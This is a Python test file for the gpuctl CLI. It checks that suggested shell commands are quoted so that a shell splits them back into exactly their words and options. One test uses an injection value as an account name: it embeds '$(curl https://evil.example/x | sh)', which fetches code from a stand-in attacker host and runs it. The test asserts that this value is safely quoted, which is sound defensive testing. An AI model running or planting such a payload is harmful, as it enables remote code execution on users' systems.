"""The one writer of the shell commands gpuctl suggests (gpuctl.commands, review 5 R5-3 and
R5-6): whatever the words (an account's endpoint name, a path with spaces), a POSIX shell
splits the suggestion back into exactly them, then the run's options."""

from __future__ import annotations

import shlex

from hypothesis import given
from hypothesis import strategies as st

from gpuctl.commands import Flags, suggest

WORDS = st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12), max_size=6)
PATHS = st.one_of(st.none(), st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=20))


@given(WORDS, PATHS, st.sampled_from([None, "local", "runpod"]), PATHS)
def test_a_suggestion_splits_back_into_its_words_then_the_run_s_options(argv, config, provider, policy):
    flags = Flags.of_run(config, provider, policy)
    said = suggest(*argv, flags=flags)
    assert shlex.split(said) == ["gpu", *argv, *flags.words(*argv)]


@given(WORDS)
def test_without_options_a_suggestion_is_exactly_its_words(argv):
    assert shlex.split(suggest(*argv)) == ["gpu", *argv]


def test_an_account_s_name_is_one_quoted_word_never_a_command():
    name = "a|`x` $(curl https://evil.example/x | sh); b"
    said = suggest("serverless", "delete", name)
    assert said == "gpu serverless delete 'a|`x` $(curl https://evil.example/x | sh); b'"
    assert suggest("serverless", "delete", "My Endpoint") == "gpu serverless delete 'My Endpoint'"


def test_the_run_s_config_provider_and_a_deploy_s_policy_are_repeated():
    flags = Flags.of_run("services/asr/gpu.jsonc", "local", "platform.jsonc")
    assert suggest("serverless", "deploy", "-y", flags=flags) == (
        "gpu serverless deploy -y --config services/asr/gpu.jsonc --provider local --policy platform.jsonc")
    assert suggest("serverless", "pull", "--write", flags=flags) == "gpu serverless pull --write --config services/asr/gpu.jsonc --provider local"
    assert suggest("serverless", "pull", "--write", flags=Flags.of_run("my dir/gpu.jsonc")) == "gpu serverless pull --write --config 'my dir/gpu.jsonc'"


def test_the_default_config_and_an_unnamed_provider_are_left_out():
    for default in (None, "gpu.jsonc", "./gpu.jsonc"):
        assert suggest("serverless", "deploy", "-y", flags=Flags.of_run(default)) == "gpu serverless deploy -y"


def _leaves(command, path=()):
    import click

    if isinstance(command, click.Group):
        ctx = click.Context(command)
        for name in command.list_commands(ctx):
            yield from _leaves(command.get_command(ctx, name), (*path, name))
    else:
        yield path, {o for p in command.params for o in getattr(p, "opts", [])}


def test_a_suggestion_carries_only_the_run_s_options_its_command_takes():
    """`gpu local down --config services/asr/gpu.jsonc` is a usage error: each of gpu's
    commands repeats those of the run's options that it has, and no other."""
    from gpuctl.cli import cli

    flags = Flags.of_run("services/asr/gpu.jsonc", "local", "platform.jsonc")
    leaves = dict(_leaves(cli))
    assert ("serverless", "deploy") in leaves and ("local", "down") in leaves
    for path, options in leaves.items():
        given = set(flags.words(*path)) & {"--config", "--provider", "--policy"}
        assert given <= options, (path, given - options)
        assert {"--config", "--provider"} & options <= given, (path, ({"--config", "--provider"} & options) - given)
    assert suggest("local", "down", flags=flags) == "gpu local down"
    assert suggest("auth", "login", flags=flags) == "gpu auth login"
    assert suggest("config", "validate", flags=flags) == "gpu config validate --config services/asr/gpu.jsonc"


def test_a_provider_error_s_fix_names_its_commands_with_the_run_s_options():
    """The client is made for a run (cli.connect.client, `flags`): a write whose outcome is
    unknown says `deploy --plan` shows the account, for the gpu.jsonc and provider of the run."""
    from gpuctl.provider.errors import FailedChange, ProviderError, Who

    who = Who.of("local", Flags.of_run("my sub/gpu.jsonc", "local"))
    assert "`gpu serverless deploy --plan --config 'my sub/gpu.jsonc' --provider local` shows what the account has now" in FailedChange("x", provider=who).hint
    assert "`gpu doctor --config 'my sub/gpu.jsonc' --provider local` checks" in ProviderError("x", provider=who).hint
    assert "`gpu serverless deploy --plan` shows" in FailedChange("x").hint  # no run: no options
